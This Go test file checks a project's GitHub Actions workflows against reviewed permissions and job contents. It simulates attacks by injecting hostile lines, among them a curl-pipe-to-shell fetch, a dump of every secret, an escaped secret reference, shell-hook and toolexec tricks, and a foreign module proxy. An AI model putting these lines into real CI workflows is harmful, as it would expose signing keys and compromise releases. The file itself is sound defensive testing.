// Copyright (c) The terraform-provider-ram authors
// SPDX-License-Identifier: MPL-2.0

package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"
)

// A workflow may contain only these keys. Others, such as defaults, container, services,
// shell and a job that calls a workflow, can run code without a step that shows it.
type workflow struct {
	Name        string
	On          any
	Permissions map[string]string
	Concurrency any
	Env         map[string]string
	Jobs        map[string]job
}

type job struct {
	Name        string
	Needs       any
	If          string
	RunsOn      string `yaml:"runs-on"`
	Timeout     int    `yaml:"timeout-minutes"`
	Environment string
	Permissions map[string]string
	Outputs     map[string]string
	Env         map[string]string
	Strategy    any
	Steps       []step
}

type step struct {
	Name      string
	ID        string
	If        string
	Uses      string
	With      map[string]string
	Env       map[string]string
	Run       string
	Directory string `yaml:"working-directory"`
}

// parse decodes one document. It rejects unknown and repeated keys, anchors, aliases and
// merges.
func parse(text string, into any) error {
	d := yaml.NewDecoder(strings.NewReader(text))
	d.KnownFields(true)
	if err := d.Decode(into); err != nil {
		return err
	}
	if err := d.Decode(new(yaml.Node)); !errors.Is(err, io.EOF) {
		return errors.New("more than one document")
	}
	var tree yaml.Node
	if err := yaml.Unmarshal([]byte(text), &tree); err != nil {
		return err
	}
	return aliases(&tree)
}

func aliases(n *yaml.Node) error {
	if n.Kind == yaml.AliasNode || n.Anchor != "" || n.Tag == "!!merge" {
		return fmt.Errorf("line %d: an anchor, an alias or a merge", n.Line)
	}
	for _, child := range n.Content {
		if err := aliases(child); err != nil {
			return err
		}
	}
	return nil
}

// allowed is what a workflow may do. A workflow that is not listed may not exist.
type allowed struct {
	events []string
	jobs   map[string]map[string]string // permissions by job
	env    []string
}

var readOnly = map[string]string{"contents": "read"}

var allowedWorkflows = map[string]allowed{
	"release.yml": {
		[]string{"push"},
		map[string]map[string]string{
			"check": readOnly, "build": readOnly, "rebuild": readOnly,
			"sign":    {"id-token": "write", "attestations": "write"},
			"verify":  {"contents": "read", "attestations": "read"},
			"publish": {"contents": "write"},
		},
		[]string{"GOTOOLCHAIN", "GO_VERSION"},
	},
	"scorecard.yml": {
		[]string{"branch_protection_rule", "push", "schedule"},
		map[string]map[string]string{"scorecard": {"contents": "read", "security-events": "write", "id-token": "write"}},
		nil,
	},
	"security.yml": {
		[]string{"pull_request", "push", "schedule"},
		map[string]map[string]string{
			"vulnerabilities": readOnly, "dependencies": readOnly,
			"codeql": {"contents": "read", "security-events": "write"},
		},
		[]string{"GOTOOLCHAIN"},
	},
	"test.yml": {
		[]string{"pull_request", "push"},
		map[string]map[string]string{"all": readOnly, "cli": readOnly},
		[]string{"GOTOOLCHAIN"},
	},
}

// record is the reviewed contents of jobs, by workflow and name.
type record map[string]map[string]job

func reviewed(t *testing.T) (r record) {
	t.Helper()
	if err := parse(read(t, "testdata/privileged.yml"), &r); err != nil {
		t.Fatal(err)
	}
	return r
}

// isolated checks the workflows of the project by file name: which files exist, when they
// run, what each job is permitted to do, and that only the job sign has a secret. The jobs
// of the release, and those that may write, have exactly the reviewed contents.
func isolated(files map[string]string, r record) error {
	problems := []error{same("workflows", slices.Sorted(maps.Keys(files)), slices.Sorted(maps.Keys(allowedWorkflows)))}
	for name, text := range files {
		var w workflow
		if err := parse(text, &w); err != nil {
			problems = append(problems, fmt.Errorf("%s: %w", name, err))
			continue
		}
		for _, problem := range append(w.problems(name, text), w.differences(name, r[name])...) {
			if problem != nil {
				problems = append(problems, fmt.Errorf("%s: %w", name, problem))
			}
		}
	}
	return errors.Join(problems...)
}

// differences compares the jobs of a workflow with their reviewed contents.
func (w workflow) differences(file string, reviewed map[string]job) (problems []error) {
	for name, j := range reviewed {
		if !reflect.DeepEqual(w.Jobs[name], j) {
			problems = append(problems, fmt.Errorf("job %s differs from testdata/privileged.yml", name))
		}
	}
	for name, j := range w.Jobs {
		if _, found := reviewed[name]; !found && (file == "release.yml" || j.privileged()) {
			problems = append(problems, fmt.Errorf("job %s is not in testdata/privileged.yml", name))
		}
	}
	return problems
}

// privileged reports whether a job may write, or has the identity token or an environment
// with secrets.
func (j job) privileged() bool {
	for _, right := range j.Permissions {
		if right != "read" {
			return true
		}
	}
	return j.Environment != ""
}

func (w workflow) problems(file, text string) []error {
	may := allowedWorkflows[file]
	secrets := 0
	if file == "release.yml" {
		secrets = 1
	}
	problems := []error{
		same("events", events(w.On), may.events),
		same("variables of the workflow", slices.Sorted(maps.Keys(w.Env)), slices.Sorted(slices.Values(may.env))),
		same("jobs", slices.Sorted(maps.Keys(w.Jobs)), slices.Sorted(maps.Keys(may.jobs))),
	}
	if !strings.Contains(text, "\npermissions: {}\n") || len(w.Permissions) > 0 {
		problems = append(problems, errors.New("the workflow has permissions, which every job would inherit"))
	}
	// The values are counted too, because YAML can escape a letter.
	for where, searched := range map[string]string{"text": text, "values": values(text)} {
		if got := strings.Count(strings.ToLower(searched), "secrets"); got != secrets {
			problems = append(problems, fmt.Errorf("the word secrets occurs %d times in the %s, want %d", got, where, secrets))
		}
	}
	if want := map[string]any{"push": map[string]any{"tags": []any{"v[0-9]+.[0-9]+.[0-9]+*"}}}; file == "release.yml" && !reflect.DeepEqual(w.On, want) {
		problems = append(problems, fmt.Errorf("the release runs for %v, want %v", w.On, want))
	}
	for name, value := range w.Env {
		if strings.Contains(value, "${{") {
			problems = append(problems, fmt.Errorf("the variable %s of the workflow contains an expression", name))
		}
	}
	for name, j := range w.Jobs {
		if !maps.Equal(j.Permissions, may.jobs[name]) {
			problems = append(problems, fmt.Errorf("job %s has the permissions %v, want %v", name, j.Permissions, may.jobs[name]))
		}
		if j.RunsOn != "ubuntu-latest" {
			problems = append(problems, fmt.Errorf("job %s runs on %q", name, j.RunsOn))
		}
		if j.Environment != "" && name != "sign" {
			problems = append(problems, fmt.Errorf("job %s has the environment %s", name, j.Environment))
		}
		for _, s := range j.Steps {
			if strings.HasPrefix(s.Uses, "./") || strings.HasPrefix(s.Uses, "docker:") {
				problems = append(problems, fmt.Errorf("job %s uses %s", name, s.Uses))
			}
		}
	}
	return problems
}

// values returns the decoded keys and values of a document, without its comments.
func values(text string) string {
	var tree yaml.Node
	if err := yaml.Unmarshal([]byte(text), &tree); err != nil {
		return ""
	}
	var found strings.Builder
	var walk func(n *yaml.Node)
	walk = func(n *yaml.Node) {
		found.WriteString(n.Value + "\n")
		for _, child := range n.Content {
			walk(child)
		}
	}
	walk(&tree)
	return found.String()
}

// events returns the names of the events of a workflow.
func events(on any) (names []string) {
	switch on := on.(type) {
	case string:
		names = append(names, on)
	case []any:
		for _, name := range on {
			names = append(names, fmt.Sprint(name))
		}
	case map[string]any:
		names = slices.Collect(maps.Keys(on))
	}
	slices.Sort(names)
	return names
}

func same(what string, got, want []string) error {
	if !slices.Equal(got, want) {
		return fmt.Errorf("the %s are %v, want %v", what, got, want)
	}
	return nil
}

// ownWorkflows returns the project's workflows by file name: all files of the directory,
// because GitHub runs .yml and .yaml.
func ownWorkflows(t *testing.T) map[string]string {
	t.Helper()
	const directory = "../../../.github/workflows"
	entries, err := os.ReadDir(directory)
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]string{}
	for _, entry := range entries {
		found[entry.Name()] = read(t, filepath.Join(directory, entry.Name()))
	}
	return found
}

func TestAttack_buildReadsTheKey(t *testing.T) {
	t.Parallel()
	r := reviewed(t)
	if err := isolated(ownWorkflows(t), r); err != nil {
		t.Fatal(err)
	}
	const (
		key       = "${{ secrets.GPG_PRIVATE_KEY }}"
		buildStep = "      - run: GORELEASER_CURRENT_TAG=\"$GITHUB_REF_NAME\" go tool -modfile=internal/tools/release/go.mod goreleaser release --clean --skip=publish\n"
		signStep  = "      - name: Sign the sums\n"
		signJob   = "    environment: release\n"
	)
	before := func(file, place, text string) func(map[string]string) {
		return func(files map[string]string) {
			changed := strings.Replace(files[file], place, text+place, 1)
			if changed == files[file] {
				panic("the attack changes nothing: " + place)
			}
			files[file] = changed
		}
	}
	for name, c := range map[string]struct {
		attack func(files map[string]string)
		want   string
	}{
		"secret in the build":        {before("release.yml", buildStep, "      - run: go build .\n        env:\n          KEY: "+key+"\n"), "the word secrets"},
		"all secrets":                {before("release.yml", buildStep, "      - run: echo '${{ toJSON(secrets) }}'\n"), "the word secrets"},
		"secret by index":            {before("release.yml", buildStep, "      - run: echo '${{ SECRETS['GPG_PRIVATE_KEY'] }}'\n"), "the word secrets"},
		"secret of the workflow":     {before("release.yml", "  GOTOOLCHAIN: local\n", "  KEY: "+key+"\n"), "the word secrets"},
		"script of the workflow":     {before("release.yml", "  GOTOOLCHAIN: local\n", "  BASH_ENV: assets/x.sh\n"), "variables of the workflow"},
		"identity of the workflow":   {replace("release.yml", "permissions: {}", "permissions:\n  id-token: write"), "every job would inherit"},
		"identity of the build":      {replace("release.yml", "      contents: read\n", "      contents: read\n      \"id-token\": 'write'\n"), "has the permissions"},
		"packages":                   {replace("test.yml", "      contents: read\n", "      packages: write\n"), "has the permissions"},
		"rights to start workflows":  {replace("test.yml", "      contents: read\n", "      {contents: read, actions: write}\n"), "has the permissions"},
		"no permissions in the job":  {replace("test.yml", "    permissions:\n      contents: read\n", ""), "has the permissions"},
		"all rights":                 {replace("test.yml", "    permissions:\n      contents: read\n", "    permissions: write-all\n"), "cannot unmarshal"},
		"environment in the build":   {before("release.yml", "    outputs:\n", signJob), "has the environment"},
		"script from the network":    {before("release.yml", signStep, "      - run: curl -sSf https://example.com/x.sh | sh\n"), "job sign differs"},
		"script from the build":      {before("release.yml", signStep, "      - run: bash assets/x.sh\n"), "job sign differs"},
		"action of a stranger":       {before("release.yml", signStep, "      - uses: x/y@0000000000000000000000000000000000000000 # v1.0.0\n"), "job sign differs"},
		"comparison removed":         {replace("release.yml", "          test \"$BUILT\" = \"$REBUILT\"\n", ""), "job sign differs"},
		"script in publish":          {before("release.yml", "      - name: Draft\n", "      - run: bash assets/x.sh\n"), "job publish differs"},
		"container":                  {before("release.yml", signJob, "    container: example.com/image\n"), "field container not found"},
		"services":                   {before("release.yml", signJob, "    services: {x: {image: example.com/image}}\n"), "field services not found"},
		"shell":                      {before("release.yml", signStep, "      - run: 'true'\n        shell: bash assets/x.sh {0}\n"), "field shell not found"},
		"shell of the workflow":      {before("release.yml", "\njobs:", "\ndefaults: {run: {shell: 'bash assets/x.sh {0}'}}\n"), "field defaults not found"},
		"workflow of a stranger":     {before("test.yml", "  cli:\n", "  x:\n    uses: x/y/.github/workflows/x.yml@main\n"), "field uses not found"},
		"job that is repeated":       {before("release.yml", "  publish:\n", "  sign:\n    runs-on: ubuntu-latest\n"), "already defined"},
		"job that is added":          {before("release.yml", "  publish:\n", "  evil:\n    runs-on: ubuntu-latest\n    permissions: {contents: write}\n"), "the jobs are"},
		"alias":                      {replace("test.yml", "    permissions:\n", "    permissions: &p\n"), "anchor"},
		"second document":            {replace("test.yml", "\nname: Test\n", "\nname: Test\n---\nname: Test\n"), "more than one document"},
		"self-hosted runner":         {replace("test.yml", "runs-on: ubuntu-latest", "runs-on: self-hosted"), "runs on"},
		"pull requests of strangers": {replace("test.yml", "  pull_request:\n", "  pull_request_target:\n"), "the events are"},
		"workflow that is added":     {func(files map[string]string) { files["evil.yaml"] = files["test.yml"] }, "the workflows are"},
		"secret with an escape":      {before("release.yml", buildStep, "      - run: go build .\n        env: {KEY: \"${{ secr\\u0065ts.GPG_PRIVATE_KEY }}\"}\n"), "in the values"},
		"merge":                      {replace("test.yml", "    timeout-minutes: 90\n", "    timeout-minutes: 90\n    <<: {if: 'false'}\n"), "a merge"},
		"every branch":               {replace("release.yml", "    tags: [", "    branches: ["), "the release runs for"},
		"every tag":                  {replace("release.yml", `"v[0-9]+.[0-9]+.[0-9]+*"`, `"**"`), "the release runs for"},
		"build without the check":    {replace("release.yml", "    needs: check\n", ""), "job build differs"},
		"build after a failed check": {replace("release.yml", "    needs: check\n", "    needs: check\n    if: always()\n"), "job build differs"},
		"tag that is not verified":   {replace("release.yml", "      - name: Verify the tag\n", "      - name: Verify the tag\n        if: 'false'\n"), "job check differs"},
		"failure that is ignored":    {replace("release.yml", `signers" "$GITHUB_REF_NAME"`, `signers" "$GITHUB_REF_NAME" || true`), "job check differs"},
		"signers of the tag":         {replace("release.yml", "git show origin/main:", "git show HEAD:"), "job check differs"},
		"other source":               {replace("release.yml", buildStep, strings.Replace(buildStep, "run: ", "run: git checkout evil && ", 1)), "job build differs"},
		"cache in the build":         {before("release.yml", buildStep, "      - uses: actions/cache@0000000000000000000000000000000000000000 # v1.0.0\n"), "job build differs"},
		"modules of a stranger":      {before("release.yml", "    outputs:\n", "    env: {GOPROXY: 'https://example.com'}\n"), "job build differs"},
		"release not verified":       {replace("release.yml", "      - run: go run ./internal/cmd/release verify", "      - if: 'false'\n        run: go run ./internal/cmd/release verify"), "job verify differs"},
		"script in scorecard":        {before("scorecard.yml", "      - uses: ossf/", "      - run: go run ./x\n"), "job scorecard differs"},
		"action in scorecard":        {before("scorecard.yml", "      - uses: ossf/", "      - uses: x/y@0000000000000000000000000000000000000000 # v1.0.0\n"), "job scorecard differs"},
		"script in CodeQL":           {replace("security.yml", "        run: go build ./...\n", "        run: go generate ./...\n"), "job codeql differs"},
		"variable in CodeQL":         {before("security.yml", "    strategy:\n", "    env: {GOFLAGS: -toolexec=./x}\n"), "job codeql differs"},
		"action of the repository":   {before("test.yml", "      - run: .ci/run\n", "      - uses: ./.github/actions/x\n"), "uses ./"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			files := ownWorkflows(t)
			c.attack(files)
			refused(t, isolated(files, r), c.want)
		})
	}
}

// A job that may write, has the identity token or belongs to the release is refused without
// a record, and a job without any of these needs none.
func TestAttack_jobWithoutRecord(t *testing.T) {
	t.Parallel()
	for file, reviewedJobs := range reviewed(t) {
		for name := range reviewedJobs {
			r := reviewed(t)
			delete(r[file], name)
			refused(t, isolated(ownWorkflows(t), r), file+": job "+name+" is not in")
		}
	}
	for name, c := range map[string]struct {
		j    job
		want bool
	}{
		"reads":       {job{Permissions: map[string]string{"contents": "read"}}, false},
		"writes":      {job{Permissions: map[string]string{"contents": "read", "packages": "write"}}, true},
		"identity":    {job{Permissions: map[string]string{"id-token": "write"}}, true},
		"environment": {job{Environment: "release"}, true},
	} {
		if got := c.j.privileged(); got != c.want {
			t.Errorf("%s: got %v", name, got)
		}
	}
}

// replace returns an attack that replaces the first occurrence of a text in a file.
func replace(file, text, by string) func(map[string]string) {
	return func(files map[string]string) { files[file] = strings.Replace(files[file], text, by, 1) }
}

// scriptOf returns the script of the step of a job in the release workflow.
func scriptOf(t *testing.T, job, step string) string {
	t.Helper()
	var w workflow
	if err := parse(read(t, "../../../.github/workflows/release.yml"), &w); err != nil {
		t.Fatal(err)
	}
	for _, s := range w.Jobs[job].Steps {
		if s.Name == step {
			return s.Run
		}
	}
	t.Fatalf("job %s has no step %q", job, step)
	return ""
}

// The step before the signature refuses files that are not those of both builds.
func TestAttack_filesBeforeTheSignature(t *testing.T) {
	t.Parallel()
	needs(t, "bash", "sha256sum", "find", "diff")
	script := filepath.Join(t.TempDir(), "script.sh")
	write(t, script, scriptOf(t, "sign", "Check that the files are those of both builds"))
	check := func(l layout, built, rebuilt string) (string, error) {
		run := exec.CommandContext(t.Context(), "bash", "-e", script)
		run.Dir = l.directory
		run.Env = append(os.Environ(), "GITHUB_REF_NAME=v"+l.version, "BUILT="+built, "REBUILT="+rebuilt)
		out, err := run.CombinedOutput()
		return string(bytes.TrimSpace(out)), err
	}
	digest := func(l layout) string { return hexSum([]byte(read(t, l.path(l.sums())))) }
	good := newRelease(t)
	if out, err := check(good, digest(good), digest(good)); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	first := func(l layout) string {
		line, _, _ := strings.Cut(read(t, l.path(l.sums())), "\n")
		return line + "\n"
	}
	appendSums := func(l layout, text string) { write(t, l.path(l.sums()), read(t, l.path(l.sums()))+text) }
	for name, attack := range map[string]func(l layout){
		"changed file":                 func(l layout) { write(t, l.path(l.archive("linux_amd64")), "changed") },
		"file without a sum":           func(l layout) { write(t, l.path("x.sh"), "") },
		"hidden file":                  func(l layout) { write(t, l.path(".x"), "") },
		"directory":                    func(l layout) { mkdir(t, l.path("x")) },
		"sum without a file":           func(l layout) { remove(t, l.path(l.manifest())) },
		"listed twice, other unlisted": func(l layout) { appendSums(l, first(l)); write(t, l.path("x.sh"), "") },
		"listed twice":                 func(l layout) { appendSums(l, first(l)) },
		"line in another form":         func(l layout) { write(t, l.path(l.sums()), strings.Replace(read(t, l.path(l.sums())), "  ", " *", 1)) },
		"path outside":                 func(l layout) { appendSums(l, strings.Repeat("0", 64)+"  ../x\n") },
		"link": func(l layout) {
			target := filepath.Join(t.TempDir(), "x")
			write(t, target, read(t, l.path(l.manifest())))
			remove(t, l.path(l.manifest()))
			if err := os.Symlink(target, l.path(l.manifest())); err != nil {
				t.Error(err)
			}
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			l := newRelease(t)
			attack(l)
			if _, err := check(l, digest(l), digest(l)); err == nil {
				t.Error("the files are accepted")
			}
		})
	}
	for name, digests := range map[string][2]string{
		"the builds differ":   {digest(good), strings.Repeat("0", 64)},
		"neither build":       {strings.Repeat("0", 64), strings.Repeat("0", 64)},
		"no build has a hash": {"", ""},
	} {
		if _, err := check(good, digests[0], digests[1]); err == nil {
			t.Errorf("%s: the files are accepted", name)
		}
	}
}

func mkdir(t *testing.T, path string) {
	t.Helper()
	if err := os.Mkdir(path, 0o700); err != nil {
		t.Error(err)
	}
}

func remove(t *testing.T, path string) {
	t.Helper()
	if err := os.Remove(path); err != nil {
		t.Error(err)
	}
}
